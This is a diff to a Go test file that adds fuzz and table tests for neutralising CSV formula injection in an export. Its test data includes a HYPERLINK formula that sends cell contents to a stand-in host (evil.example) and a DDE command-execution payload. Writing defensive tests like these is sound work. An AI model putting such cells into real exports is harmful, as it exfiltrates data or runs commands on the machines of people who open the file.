@@ -5,22 +5,28 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"math/rand/v2"
+	"strings"
 	"testing"
 	"time"
 	"unicode/utf8"
 )
 
-// FuzzAppendCSVField checks the CSV encoding against encoding/csv's Writer
-// with UseCRLF, which the export used to write with.
+// FuzzAppendCSVField checks the CSV encoding against its definition: each
+// field neutralised as OWASP recommends (neutraliseCSV, written plainly
+// here), then written by encoding/csv's Writer with UseCRLF, which the
+// export used to write with. It also checks that encoding/csv's Reader
+// reads no cell that a spreadsheet would take for a formula.
 func FuzzAppendCSVField(f *testing.F) {
-	for _, s := range []string{``, `a`, `a,b`, `"`, "a\nb", "a\r\nb", "\rx", ` x`, "\tx", "\u00a0x", "\u2028", `\.`, `\.x`, "\xff", "x "} {
+	for _, s := range []string{``, `a`, `a,b`, `"`, "a\nb", "a\r\nb", "\rx", ` x`, "\tx", "\u00a0x", "\u2028", `\.`, `\.x`, "\xff", "x ",
+		`=HYPERLINK("http://x","y")`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\r\n=1", "=a,b", `="`, "'=1", "-", "=", " =1", "a\n=1"} {
 		f.Add(s, "second")
+		f.Add("first", s)
 	}
 	f.Fuzz(func(t *testing.T, a, b string) {
 		var want bytes.Buffer
 		w := csv.NewWriter(&want)
 		w.UseCRLF = true
-		if err := w.Write([]string{a, b}); err != nil {
+		if err := w.Write([]string{neutraliseCSV(a), neutraliseCSV(b)}); err != nil {
 			t.Fatal(err)
 		}
 		w.Flush()
@@ -31,7 +37,54 @@ func FuzzAppendCSVField(f *testing.F) {
 		if string(got) != want.String() {
 			t.Fatalf("fields %q, %q: got %q, want %q", a, b, got, want.String())
 		}
+		r := csv.NewReader(bytes.NewReader(got))
+		r.FieldsPerRecord = 2
+		cells, err := r.Read()
+		if err != nil {
+			t.Fatalf("fields %q, %q: wrote %q, which encoding/csv cannot read: %v", a, b, got, err)
+		}
+		for _, c := range cells {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Fatalf("fields %q, %q: cell %q reads as a formula", a, b, c)
+			}
+		}
 	})
+}
+
+// neutraliseCSV is OWASP's defence against CSV injection for one cell: a
+// single quote before a value starting with '=', '+', '-', '@', a tab or a
+// carriage return.
+func neutraliseCSV(s string) string {
+	for _, p := range []string{"=", "+", "-", "@", "\t", "\r"} {
+		if strings.HasPrefix(s, p) {
+			return "'" + s
+		}
+	}
+	return s
+}
+
+// TestAppendCSVFieldFormulas spells out what a spreadsheet gets for the
+// cells of an attack: text, never a formula.
+func TestAppendCSVFieldFormulas(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A1,"Open")`: `"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`,
+		"=1+1":               "'=1+1",
+		"+1":                 "'+1",
+		"-2":                 "'-2",
+		"@SUM(A1:A9)":        "'@SUM(A1:A9)",
+		"\t=1":               "'\t=1",
+		"\r=1":               `"'=1"`,
+		"=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
+		"a=1":                "a=1",
+		"x-1":                "x-1",
+		"'=1":                "'=1",
+		"":                   "",
+		" =1":                `" =1"`,
+	} {
+		if got := string(appendCSVField(nil, in)); got != want {
+			t.Errorf("cell %q: got %q, want %q", in, got, want)
+		}
+	}
 }
 
 // FuzzAppendJSONString checks that a string and its bytes are written
